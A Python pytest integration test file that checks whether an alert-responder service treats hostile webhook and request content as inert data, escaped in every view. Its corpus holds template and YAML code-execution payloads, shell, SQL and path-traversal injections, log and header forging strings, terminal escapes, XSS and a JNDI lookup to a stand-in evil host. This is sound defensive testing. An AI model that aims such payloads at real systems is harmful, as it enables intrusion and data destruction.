"""Injections of every kind in every field of a webhook, to the real process: only data, and shown escaped."""

from __future__ import annotations

import json
import re
import shutil
import sqlite3
from contextlib import closing
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from alert_responder.alerts import LONGEST_NAME, LONGEST_VALUE
from alert_responder.timeline import plain
from tests.integration.responder.service import TOKEN, Service, command

if TYPE_CHECKING:
    from pathlib import Path

pytestmark = [pytest.mark.integration, pytest.mark.slow, pytest.mark.timeout(900)]

# PWNED is a file that appears where one of these is executed; 60481729 is what the sums in them come to.
CORPUS = (
    "{{ lookup('ansible.builtin.pipe', 'touch PWNED') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }} {{ 7777 * 7777 }}",
    "{% set x = lookup('pipe', 'touch PWNED') %}{{ x }}",
    "{# #}{{ query('ansible.builtin.pipe', 'touch PWNED') }}",
    '!unsafe \'{{ lookup("pipe", "touch PWNED") }}\'',
    "!!python/object/apply:os.system ['touch PWNED']",
    "$(touch PWNED)$((7777*7777))",
    "`touch PWNED`",
    "; touch PWNED #",
    "| touch PWNED",
    "&& touch PWNED",
    "-e @/etc/passwd",
    "--extra-vars={word: ill}",
    "'; DROP TABLE events; --",
    '" OR 1=1; DELETE FROM incidents; --',
    "x'); UPDATE incidents SET status = 'recovered'; --",
    "../../../../../../etc/passwd",
    "/etc/shadow",
    "..\\..\\PWNED",
    "x\n2026-11-23 12:00:00,000 CRITICAL forged line",
    "x\r\nSet-Cookie: forged=1\r\n\r\nHTTP/1.1 200 OK",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07\x7f",
    "\x9b31mred",
    "a\x00b",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "[bold red]markup[/bold red][/]",
    "[link=http://evil.example.com]x[/link]",
    "![x](http://evil.example.com/x.png) | cell |\n# heading",
    "%s%s%n {0.__class__} ${jndi:ldap://evil.example.com/x}",
    "<script>alert(1)</script>",
    "localhost,",
    "all:!none:&things",
    "[::1]" * 1000,
)
_LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (DEBUG|INFO|WARNING|ERROR) [\w.]+ ")


@pytest.fixture
def corpus(tmp_path: Path) -> list[str]:
    """Return the hostile texts; the last asserts of each test look for what they would have left."""
    return [text.replace("PWNED", str(tmp_path / "pwned")) for text in CORPUS]


@pytest.fixture
def hostile(service: Service, root: Path) -> Service:
    """Start the responder, with all of its log kept."""
    shutil.copy(root / "runbooks" / "post-incident-review.md", service.project / "runbooks")
    service.settings["log_level"] = "debug"
    service.start(keep_log=True)
    return service


def webhook(text: str, **alert: Any) -> dict[str, Any]:
    """Return a webhook in which every field that holds text is hostile."""
    everywhere = {"summary": text, text[:LONGEST_NAME]: text}
    made = {
        "status": "firing",
        "labels": {"alertname": "ThingBroken", "service": "thing", "instance": text, **everywhere},
        "annotations": everywhere,
        "startsAt": "2026-11-23T12:00:00Z",
        "generatorURL": text,
        "fingerprint": text[:LONGEST_NAME],
        **alert,
    }
    return {
        "version": "4",
        "groupKey": text,
        "externalURL": text,
        "receiver": text,
        "groupLabels": everywhere,
        "commonLabels": everywhere,
        "commonAnnotations": everywhere,
        "alerts": [made],
    }


def test_hostile_text_is_data_wherever_it_stands(hostile: Service, corpus: list[str], tmp_path: Path) -> None:
    """One text in every field of each webhook: on record as it came, nothing starts for it, every view escapes it."""
    cut = len(corpus) + 1
    for number, text in enumerate(corpus, start=1):
        assert _outcome(hostile, webhook(text)) == {"incident": number, "outcome": "opened"}
    # The name and the service as well; and Alertmanager says that it left alerts out.
    assert _outcome(hostile, {**webhook(corpus[0]), "alerts": [], "truncatedAlerts": 3})["incident"] == cut
    for number, text in enumerate(corpus, start=cut + 1):
        body = webhook(text, labels={"alertname": text, "service": text, text[:LONGEST_NAME]: text})
        assert _outcome(hostile, body) == {"incident": number, "outcome": "opened"}
    every = cut + len(corpus)
    hostile.until(lambda: hostile.client.get("/api/v1/incidents?status=open").json() == {"incidents": []})

    for number, text in [*enumerate(corpus, start=1), *enumerate(corpus, start=cut + 1)]:
        answer = hostile.client.get(f"/api/v1/incidents/{number}")
        opened, *rest = answer.json()["events"]
        assert opened["alert"]["annotations"]["summary"][:LONGEST_VALUE] == text[:LONGEST_VALUE]
        assert opened["alert"]["labels"][text[:LONGEST_NAME]][:LONGEST_VALUE] == text[:LONGEST_VALUE]
        assert opened["alert"]["fingerprint"] == text[:LONGEST_NAME]
        assert [event["kind"] for event in rest] == (["escalated"] if number < cut else [])
        _assert_harmless(answer.text, answer.headers)
    _assert_every_view_escapes(hostile, every)
    _assert_nothing_happened(hostile, tmp_path, incidents=every)
    assert not (tmp_path / "state" / "runs").exists()


def test_hostile_text_beside_good_labels_does_not_reach_the_playbook(
    hostile: Service, corpus: list[str], tmp_path: Path
) -> None:
    """The option runs; what its plays saw of the alert is the declared label, and every view shows the rest escaped."""
    many = {f"l{number} {text}"[:LONGEST_NAME]: text for number, text in enumerate(corpus)}
    hostile.post(labels=many, annotations=many, generatorURL=corpus[0], fingerprint=corpus[0])
    hostile.until(hostile.over, seconds=400)

    assert hostile.story()[-1] == "closed recovered"
    [seen] = [event["evidence"]["evidence"]["alert"] for event in hostile.events() if event.get("evidence")]
    assert seen["labels"] == {"instance": "db1:5432"}
    assert seen["fingerprint"] == corpus[0]
    shown = command(hostile, "incidents", "show", "1").stdout
    for name, text in many.items():
        assert f"{plain(name)} = {plain(text)}\n" in shown
    _assert_every_view_escapes(hostile, 1)
    review = command(hostile, "report", "1").stdout
    template = (hostile.project / "runbooks" / "post-incident-review.md").read_text()
    assert sorted(_skeleton(review)) == sorted([*_skeleton(template), "| --- | --- | --- |"])  # and the timeline
    assert "evil.example.com" not in review.replace(r"\://evil.example.com", "").replace("ldap", "")
    _assert_nothing_happened(hostile, tmp_path, incidents=1)
    runs = {run.name for run in (tmp_path / "state" / "runs").iterdir()}
    assert len(runs) == 2
    assert all(re.fullmatch(r"1-\d+-[0-9a-f]{8}", run) for run in runs)


def test_hostile_requests_are_refused_in_one_shape(hostile: Service, corpus: list[str], tmp_path: Path) -> None:
    """In the path, the query, the token and a value of a wrong type: refused, and said in escapes."""
    for text in corpus:
        quoted = quote(text, safe="")[:2000]
        token = {"Authorization": f"Bearer {quoted}"}
        for status, answer in (
            (400, hostile.client.get("/api/v1/incidents", params={"status": text})),
            (400, hostile.client.get("/api/v1/incidents", params={"limit": text})),
            (404, hostile.client.get(f"/api/v1/incidents/{quoted}")),
            (400, hostile.client.post("/", json={**webhook(text), "version": text})),
            (400, hostile.client.post("/", json=webhook(text, status=text, startsAt=text, labels=[text]))),
        ):
            assert (answer.status_code, answer.json()["error"]["status"]) == (status, status)
            _assert_harmless(answer.text, answer.headers)
        assert hostile.client.get("/api/v1/incidents", headers=token).status_code in (401, 429)
    _assert_nothing_happened(hostile, tmp_path, incidents=0)


def _outcome(service: Service, body: dict[str, Any]) -> dict[str, Any]:
    [receipt] = service.client.post("/", json=body).raise_for_status().json()["alerts"]
    assert isinstance(receipt, dict)
    return receipt


def _assert_harmless(text: str, headers: Any = None) -> None:
    """What a terminal, a browser or a log would act on is not there, and nothing was calculated."""
    assert all(line.isprintable() for line in text.split("\n")), text
    assert "60481729" not in text
    if headers is not None:
        assert {name.lower() for name in headers} <= {"content-type", "content-length", "date"}
        assert headers["content-type"] == "application/json"


def _assert_every_view_escapes(service: Service, number: int) -> None:
    """The command line, as text and as JSON, and the review."""
    listed = command(service, "incidents", "--limit", "1000")
    assert next(line.split()[0] for line in listed.stdout.splitlines() if re.match(r"\d+ ", line)) == str(number)
    for view in (
        listed,
        command(service, "incidents", "show", str(number)),
        command(service, "report", str(number)),
        command(service, "stats"),
    ):
        assert view.returncode == 0, view.stderr
        _assert_harmless(view.stdout)
    as_json = command(service, "incidents", "show", str(number), "--json").stdout
    assert json.loads(as_json) == service.client.get(f"/api/v1/incidents/{number}").json()
    _assert_harmless(as_json)
    _assert_harmless(service.client.get("/metrics").text)


def _assert_nothing_happened(service: Service, folder: Path, *, incidents: int) -> None:
    """Nothing was executed or written elsewhere, the store is whole, no line of the log is forged."""
    assert list(folder.rglob("pwned")) == []
    assert {one.name for one in folder.iterdir()} <= {"project", "state", "responder.yml", "responder.log"}
    with closing(sqlite3.connect(folder / "state" / "incidents.sqlite3")) as store:
        assert store.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert store.execute("SELECT count(*) FROM incidents").fetchone() == (incidents,)
        assert store.execute("SELECT count(*) FROM incidents WHERE status = 'recovered'").fetchone()[0] <= 1
    assert service.stop() == 0
    lines = service.log.read_text().split("\n")[:-1]
    assert all(_LINE.match(line) and line.isprintable() for line in lines), [
        line for line in lines if not _LINE.match(line) or not line.isprintable()
    ]
    assert TOKEN not in "".join(lines)


def _skeleton(markdown: str) -> list[str]:
    """Return the headings, and how many columns each table has: what hostile text must not change."""
    lines = markdown.splitlines()
    return [line for line in lines if line.startswith("## ")] + [line for line in lines if line.startswith("| --")]
